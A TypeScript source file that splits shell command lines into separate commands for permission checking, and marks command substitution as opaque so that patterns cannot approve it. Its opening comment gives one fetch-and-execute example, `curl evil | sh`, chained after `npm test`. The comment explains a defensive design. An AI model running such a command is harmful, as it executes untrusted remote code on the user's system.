// A shell command line as permission rules must see it: `npm test && curl evil | sh` is three
// commands, and a rule or an "always" answer for `npm test` covers only the first. Quote-aware
// (`echo "a; b"` is one command), not a shell parser: what it cannot see through (command
// substitution) is marked opaque, and an opaque command is never allowed by a pattern.

export interface ShellCommandParts {
  /** The simple commands, trimmed, with leading `VAR=value` assignments, `!`, `{` and `(` dropped. */
  commands: string[];
  /** Contains `$(…)`, backticks or process substitution: more runs than the parts show. */
  opaque: boolean;
}

const ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*=(?:'[^']*'|"[^"]*"|[^\s'"]*)\s+/;

function commandOf(part: string): string {
  let rest = part.trim();
  for (;;) {
    const before = rest;
    rest = rest.replace(/^[!{(]\s*/, '').replace(ASSIGNMENT, '').trim();
    if (rest === before) break;
  }
  return rest.replace(/[\s})]+$/, '').trim();
}

export function splitShellCommand(command: string): ShellCommandParts {
  const parts: string[] = [];
  let current = '';
  let quote: "'" | '"' | undefined;
  let opaque = false;
  for (let i = 0; i < command.length; i++) {
    const char = command[i]!;
    const next = command[i + 1];
    if (quote === "'") {
      current += char;
      if (char === "'") quote = undefined;
      continue;
    }
    if (char === '\\' && next !== undefined) {
      current += char + next;
      i++;
      continue;
    }
    if (char === '`' || (char === '$' && next === '(') || ((char === '<' || char === '>') && next === '(')) opaque = true;
    if (quote === '"') {
      current += char;
      if (char === '"') quote = undefined;
      continue;
    }
    if (char === "'" || char === '"') {
      quote = char;
      current += char;
      continue;
    }
    // Separators: ; & | newline (and && || |& as pairs of them); a subshell's parentheses.
    if (char === ';' || char === '&' || char === '|' || char === '\n' || char === '(' || char === ')') {
      // `>&2`, `2>&1`, `&>` are redirections, not separators.
      if (char === '&' && (current.endsWith('>') || current.endsWith('<') || next === '>')) {
        current += char;
        continue;
      }
      parts.push(current);
      current = '';
      continue;
    }
    current += char;
  }
  parts.push(current);
  return { commands: parts.map(commandOf).filter((part) => part !== ''), opaque };
}
